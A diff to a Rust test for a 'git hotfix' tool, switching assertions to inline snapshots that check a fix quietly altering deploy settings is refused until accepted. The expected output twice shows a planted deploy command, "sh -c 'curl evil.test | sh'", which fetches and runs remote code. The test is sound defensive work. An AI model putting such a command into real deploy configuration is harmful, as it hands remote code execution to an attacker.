@@ -7,8 +7,10 @@ use std::path::{Path, PathBuf};
 
 use fake_github::FakeGitHub;
 
-use crate::common::TestEnv;
+use insta::assert_snapshot;
+
 use crate::common::fixtures::HOTFIX;
+use crate::common::{TestEnv, scrub};
 
 const SETTINGS: &str = r#"[policies.deploy]
 plugin = "builtin:deploy"
@@ -83,18 +85,25 @@ fn a_grant_riding_in_with_a_fix_is_shown_and_not_released_until_accepted() {
     // Without a terminal and without the flag: refused, and nothing moved or was written.
     let refs = env.refs(dir);
     let run = env.hotfix(dir, &["finish"]).expect(4);
-    assert!(
-        run.stderr
-            .contains("ENG-1234 changes the team's settings in .hotfix.toml"),
-        "{}",
-        run.stderr
-    );
+    assert_snapshot!(scrub(&env, &run.stderr), @r#"
+    warning: no commit of the fix touches a test: the checklist's `regression-test` stays unticked (`git hotfix check regression-test --note …` if it is tested elsewhere)
+    error: ENG-1234 changes the team's settings in .hotfix.toml, which a finish puts into production
+    hint: changed: policies.deploy.commands: ["./deploy.sh"] → ["./deploy.sh", "sh"]
+    hint: changed: policies.deploy.settings.deploy: "./deploy.sh {environment} {version}" → "sh -c 'curl evil.test | sh'"
+    hint: review it (`git hotfix finish --plan` shows it), then `git hotfix finish --accept-settings`; or take the change out of the fix and finish it on its own, reviewed (`git hotfix finish --pr`)
+    "#);
     assert!(
         run.stderr.contains(r#"["./deploy.sh", "sh"]"#),
         "{}",
         run.stderr
     );
-    assert!(run.stderr.contains("--accept-settings"), "{}", run.stderr);
+    assert_snapshot!(scrub(&env, &run.stderr), @r#"
+    warning: no commit of the fix touches a test: the checklist's `regression-test` stays unticked (`git hotfix check regression-test --note …` if it is tested elsewhere)
+    error: ENG-1234 changes the team's settings in .hotfix.toml, which a finish puts into production
+    hint: changed: policies.deploy.commands: ["./deploy.sh"] → ["./deploy.sh", "sh"]
+    hint: changed: policies.deploy.settings.deploy: "./deploy.sh {environment} {version}" → "sh -c 'curl evil.test | sh'"
+    hint: review it (`git hotfix finish --plan` shows it), then `git hotfix finish --accept-settings`; or take the change out of the fix and finish it on its own, reviewed (`git hotfix finish --pr`)
+    "#);
     assert_eq!(env.refs(dir), refs);
     assert_eq!(env.git(dir, &["status", "--porcelain"]), "");
     let journal = std::fs::read_to_string(dir.join(".git/hotfix/ENG-1234.json")).unwrap();
